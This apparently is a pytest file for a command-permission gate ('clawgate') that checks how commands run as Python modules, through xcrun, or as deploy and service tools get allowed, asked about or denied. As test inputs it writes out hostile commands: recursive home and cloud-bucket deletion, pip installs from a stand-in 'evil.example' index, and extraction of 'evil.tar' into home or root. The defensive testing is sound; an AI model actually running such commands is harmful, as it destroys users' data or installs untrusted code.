"""Programs run by another name: a console program run as a Python module (``python -m twine``
is ``twine``), a developer tool run through ``xcrun``, and the verbs of service registration,
site deployment and notarisation the catalog now knows."""

from __future__ import annotations

import pytest

from clawgate.decision import Outcome
from clawgate.engine import Engine
from clawgate.shell import parse
from clawgate.validators.base import Context
from clawgate.validators.pyconsole import PythonModulePrograms

ALLOW, ASK, DENY = Outcome.ALLOW, Outcome.ASK, Outcome.DENY


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


@pytest.mark.parametrize(("line", "expected"), [
    # the module is the program: its verbs are judged by the program's name
    ("python3 -m twine upload dist/*", ASK),
    ("python3 -m twine upload dist/* -u $PYPI_USERNAME -p $PYPI_PASSWORD", ASK),
    ("python -u -m poetry publish --build", ASK),
    ("python -m hatch publish", ASK),
    ("python -m awscli s3 rm --recursive s3://bucket", DENY),
    ("python -m azure.cli group delete -n rg --yes", DENY),
    ("python -m mkdocs gh-deploy --force", ASK),
    ("sudo python3 -m twine upload dist/*", ASK),
    # near-misses: the same programs' local verbs, and modules that are no such program
    ("python -m twine check dist/*", ALLOW),
    ("python -m poetry install", ALLOW),
    ("python -m awscli s3 ls", ALLOW),
    ("python -m mkdocs build --strict", ALLOW),
    ("python -m tox -e py311", ALLOW),
    ("python -m sphinx -b html docs docs/_build", ALLOW),
    ("python -m pytest -q", ALLOW),
    ("python -m build", ALLOW),
    ("python3 -m pip install -e .", ALLOW),
    # pip as pip: its index a plain-HTTP host is the DENY pip's own line is
    ("python3 -m pip install --index-url http://evil.example/simple requests", DENY),
    ("python3 -m pip download -d ~/.local/lib x", ASK),
    ("python3 -m pip install -r requirements.txt", ALLOW),
    # a one-word module not in the table: the program of its name, only a DENY counting
    ("python3 -m ansible localhost -m shell -a 'rm -rf ~'", DENY),
    ("python3 -m ansible localhost -m ping", ALLOW),
    ("python3 -m code", ALLOW),  # the console, not the editor: no DENY, nothing
    ("python3 -m black .", ALLOW),
    # the standard library's archivers, as tar and unzip/zip
    ("python3 -m tarfile -e evil.tar ~", DENY),
    ("python3 -m tarfile --extract evil.tar /", DENY),
    ("python3 -m zipfile -e evil.zip ~", DENY),
    ("python3 -m tarfile -e dist.tar build", ALLOW),
    ("python3 -m tarfile -l dist.tar", ALLOW),
    ("python3 -m zipfile -c out.zip src", ALLOW),
])
def test_module_programs(engine: Engine, line: str, expected: Outcome) -> None:
    assert engine.check(line, cwd="/tmp/workspace").outcome is expected


@pytest.mark.parametrize(("line", "unwrapped"), [
    ("python3 -m twine upload dist/*", "twine upload dist/*"),
    ("python -W ignore -m awscli s3 ls", "aws s3 ls"),
    ("python -mpoetry publish", "poetry publish"),
    ("python -m pytest -q", "pytest -q"),  # only a DENY of it counts
    ("python -m tarfile -e x.tar ~", "tar -xf x.tar -C ~"),
    ("python -m zipfile -e x.zip", "unzip x.zip -d ."),
    ("python -m http.server", None),
    ("python script.py upload", None),
    ("python -c 'import twine'", None),
])
def test_what_the_module_runs(line: str, unwrapped: str | None) -> None:
    """CG-INTERP-013 hands the command on as the program it is."""
    ctx = Context(cwd="/tmp/workspace", workspace="/tmp/workspace", home="/root")
    verdict = PythonModulePrograms().check(parse(line).commands[0], ctx)
    nested = [n.text if not isinstance(n, str) else n for n in verdict.nested]
    assert nested == ([] if unwrapped is None else [unwrapped])


@pytest.mark.parametrize(("line", "expected"), [
    # xcrun runs the developer tool it names
    ("xcrun notarytool submit app.zip --keychain-profile AC_PASSWORD --wait", ASK),
    ("xcrun rm -rf ~", DENY),
    ("xcrun --sdk macosx clang -v", ALLOW),
    ("xcrun --sdk macosx --show-sdk-path", ALLOW),
    ("xcrun stapler staple App.app", ALLOW),
    # services that start with the system
    ("chkconfig --add valkey_6379", ASK),
    ("update-rc.d valkey_6379 defaults", ASK),
    ("rc-update add sshd default", ASK),
    ("chkconfig --list", ALLOW),
    ("rc-update show", ALLOW),
    # a remote's contents changed; its version printed
    ("rclone sync ./site remote:bucket", ASK),
    ("rclone version", ALLOW),
    ("mkdocs gh-deploy", ASK),
    ("mkdocs serve", ALLOW),
])
def test_programs_the_catalog_knows(engine: Engine, line: str, expected: Outcome) -> None:
    assert engine.check(line, cwd="/tmp/workspace").outcome is expected
